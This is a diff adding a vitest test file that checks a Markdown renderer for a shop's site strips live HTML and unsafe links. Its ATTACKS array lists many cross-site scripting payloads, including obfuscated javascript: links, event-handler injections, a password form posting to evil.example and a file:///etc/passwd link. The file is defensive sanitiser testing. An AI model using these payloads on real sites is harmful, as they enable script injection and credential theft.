@@ -1,0 +1,119 @@
+import { describe, expect, test } from 'vitest'
+import { renderMarkdown } from '#content/render-markdown.ts'
+import { isPage } from '#lib/site-pages.ts'
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  'Hello <script\n>alert(1)</script>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)"',
+  '<svg/onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
+  '<style>*{background:url(//evil.example)}</style>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<base href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<form action=//evil.example><input name=password></form>',
+  '<a href="javascript:alert(1)">press</a>',
+  '<p onclick="alert(1)" style="position:fixed">press</p>',
+  '<h2 id=forms>x</h2><input name=forms>',
+  '<details open ontoggle=alert(1)>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml <img src=x onerror=alert(1)> ?>',
+  '<code> <img src=x onerror=alert(1) </code>',
+  '<pre>\n<img src=x onerror=alert(1)>\n</pre>',
+  '`<script>alert(1)</script>`',
+  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
+  '    <script>alert(1)</script>',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '> <script>alert(1)</script>',
+  '1. <svg/onload=alert(1)>',
+  '## <img src=x onerror=alert(1)>',
+  '[press](javascript:alert(1))',
+  '[press](JaVaScRiPt:alert(1))',
+  '[press](&#106;avascript:alert(1))',
+  '[press](&#x6A;&#x61;vascript:alert(1))',
+  '[press](javascript&colon;alert(1))',
+  '[press](<java\tscript:alert(1)>)',
+  '[press](<java&#10;script:alert(1)>)',
+  '[press](\u0001javascript:alert(1))',
+  '[press](\\javascript:alert(1))',
+  '[press](vbscript:msgbox(1))',
+  '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[press](file:///etc/passwd)',
+  '[press](//evil.example/x)',
+  '[press](/\\evil.example/x)',
+  '[press](\\\\evil.example/x)',
+  '[press](feed:javascript:alert(1))',
+  '[press](https://ok.example "x\\" onmouseover=\\"alert(1)")',
+  '[press](https://ok.example/"onmouseover="alert(1))',
+  '[press]\n\n[press]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  'javascript:alert(1)',
+  '![x](javascript:alert(1))',
+  '![x](https://evil.example/pixel.png)',
+  '![x"onerror="alert(1)](x)',
+  '[![x](x)](javascript:alert(1))',
+  '<a href="https://x"><b>**bold**</b></a>'
+]
+
+/** The tags that a browser would make of it, with what stands in them. */
+const tagsOf = (html: string): string[] => html.match(/<[^>]*>?/g) ?? []
+const HARMLESS =
+  /^<(\/?(h[2-4]|p|ul|ol|li|blockquote|a|strong|em|del|code|pre|table|thead|tbody|tr|th|td)|(br|hr) \/)>$/
+const LINK = /^<a href="(https?:\/\/|mailto:|tel:|\/(?![/\\]))[^"<>]*" rel="noopener">$/
+
+describe('a text in Markdown', () => {
+  test.for(ATTACKS)('brings nothing alive into a page: %s', attack => {
+    for (const text of [attack, `Before ${attack} after`, `Before\n\n${attack}\n\nafter`]) {
+      const others = tagsOf(renderMarkdown(text)).filter(tag => !HARMLESS.test(tag) && !LINK.test(tag))
+      expect(others).toEqual([])
+    }
+  })
+
+  test('shows HTML as it was typed, and the marks in it still count', () => {
+    expect(renderMarkdown('Use <b>**two** spoons</b> & stir')).toBe(
+      '<p>Use &lt;b&gt;<strong>two</strong> spoons&lt;/b&gt; &amp; stir</p>\n'
+    )
+    expect(renderMarkdown('less < more, I <3 jaggery')).toBe('<p>less &lt; more, I &lt;3 jaggery</p>\n')
+  })
+
+  test('has headings below the page’s own', () => {
+    expect(renderMarkdown('# One\n\n### Three\n\n###### Six')).toBe('<h2>One</h2>\n<h3>Three</h3>\n<h4>Six</h4>\n')
+  })
+
+  test('keeps the marks of a text', () => {
+    const html = renderMarkdown('*a* **b** ~~c~~ `d`\n\n- one\n\n1. first\n\n> said\n\n| x |\n|---|\n| y |\n\n---')
+    for (const tag of ['em', 'strong', 'del', 'code', 'ul', 'ol', 'blockquote', 'table', 'td'])
+      expect(html).toContain(`<${tag}>`)
+  })
+
+  test('leads to other sites, to addresses, and to the pages that are there', () => {
+    const pages = { products: new Set(['laddu']), posts: new Set(['story']) }
+    const linked = (href: string): boolean =>
+      renderMarkdown(`[words](${href})`, address => isPage(address, pages)).includes('<a ')
+    for (const href of ['https://x.example', 'mailto:a@x.example', 'tel:+911234', '/', '/products', '/blogs/story'])
+      expect(linked(href), href).toBe(true)
+    expect(linked('/products/laddu?from=blog#price')).toBe(true)
+    for (const href of [
+      '/products/gone',
+      '/blogs/draft',
+      '/nowhere',
+      '/products/laddu/more',
+      'laddu',
+      '#x',
+      '/api/blog'
+    ])
+      expect(linked(href), href).toBe(false)
+    expect(renderMarkdown('[words](/products/gone)', address => isPage(address, pages))).toBe('<p>words</p>\n')
+  })
+})
